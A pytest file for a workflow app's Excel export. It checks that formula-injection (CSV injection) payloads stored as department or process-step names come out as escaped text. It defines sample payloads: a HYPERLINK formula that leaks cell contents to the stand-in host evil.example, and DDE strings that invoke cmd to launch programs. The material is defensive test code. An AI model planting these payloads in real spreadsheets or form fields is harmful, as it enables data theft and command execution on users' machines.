"""Excel exports never carry a formula: text starting with =, +, -, @, tab or CR (OWASP "CSV injection") is stored as
text with Excel's ' marker, whether it comes from a department name or a step named in a diagram."""
from __future__ import annotations

import io
from datetime import datetime
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select, update

from app.extensions import db
from app.models import Department
from app.services.spreadsheet import append_row, safe_cell

ROOT = Path(__file__).resolve().parents[2]
VIOLATION_XML = (ROOT / "bpmn" / "violation_case.bpmn").read_text(encoding="utf-8")

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看详情")'
DDE = "+cmd|' /C calc'!A0"
STEP = "@SUM(1+1)*cmd|' /C notepad'!A0"
RENAMED = {"college_cs": HYPERLINK, "nic": "\x07" + DDE}  # the initiator's and the investigating department


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("\x00\x1b=1", "'=1"), ("计算机与通信学院", "计算机与通信学院"), ("a=1", "a=1"), ("", ""),
    (5, 5), (-3, -3), (None, None), (2.5, 2.5),
])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_escaped_cells_reload_as_text_never_as_formulas():
    book = Workbook()
    values = ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", HYPERLINK, -3, datetime(2025, 1, 2, 3, 4)]
    append_row(book.active, values)
    out = io.BytesIO()
    book.save(out)
    cells = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows(min_row=1, max_row=1))
    assert [c.data_type for c in cells] == ["s"] * 7 + ["n", "d"]
    assert cells[6].value == "'" + HYPERLINK and cells[7].value == -3
    # without the helper openpyxl would have stored a formula
    raw = Workbook()
    raw.active.append([HYPERLINK])
    assert raw.active["A1"].data_type == "f"


@pytest.fixture()
def hostile_departments(app):
    with app.app_context():
        originals = dict(db.session.execute(select(Department.code, Department.name)
                                            .where(Department.code.in_(RENAMED))).all())
        for code, name in RENAMED.items():
            db.session.execute(update(Department).where(Department.code == code).values(name=name))
        db.session.commit()
    yield
    with app.app_context():
        for code, name in originals.items():
            db.session.execute(update(Department).where(Department.code == code).values(name=name))
        db.session.commit()


def _cells(book):
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def test_supervision_export_stores_hostile_names_and_steps_as_text(login, hostile_departments):
    admin = login("admin")
    xml = VIOLATION_XML.replace('<bpmn:userTask id="nic_investigate" name="网信中心调查核实">',
                                f'<bpmn:userTask id="nic_investigate" name="{STEP}">', 1)
    assert STEP in xml
    resp = admin.client.post("/admin/definitions", json={"xml": xml, "file_name": "violation_case.bpmn"},
                             headers={"X-CSRFToken": admin.csrf})
    assert resp.status_code == 201, resp.get_data(as_text=True)

    reporter = login("cs_handler")
    resp = reporter.post("/processes/violation_case/new",
                         {"accused_department": "hr", "kind": "misuse", "facts": "将共享数据提供给校外机构"})
    assert resp.status_code == 302, resp.get_data(as_text=True)[:2000]
    case_id = int(resp.headers["Location"].rstrip("/").split("/")[-1])

    resp = login("supervisor").get("/supervision/export.xlsx")
    assert resp.status_code == 200
    assert resp.headers["Content-Disposition"].startswith('attachment; filename="overdue-')
    assert resp.headers["X-Content-Type-Options"] == "nosniff"
    book = load_workbook(io.BytesIO(resp.data))

    rows = {row[0].value: row for row in book["在办任务"].iter_rows(min_row=2)}
    _id, title, step, department = rows[case_id][:4]
    assert title.value == "'" + HYPERLINK + "：违规处理"
    assert step.value == "'" + STEP
    assert department.value == "'" + DDE  # the control character dropped, then escaped
    assert {title.data_type, step.data_type, department.data_type} == {"s"}
    by_department = [r[0] for r in book["按部门"].iter_rows(values_only=True)]
    by_step = [r[0] for r in book["按环节"].iter_rows(values_only=True)]
    assert "'" + DDE in by_department and "'" + STEP in by_step

    cells = _cells(book)
    assert len(cells) > 20
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))] == []
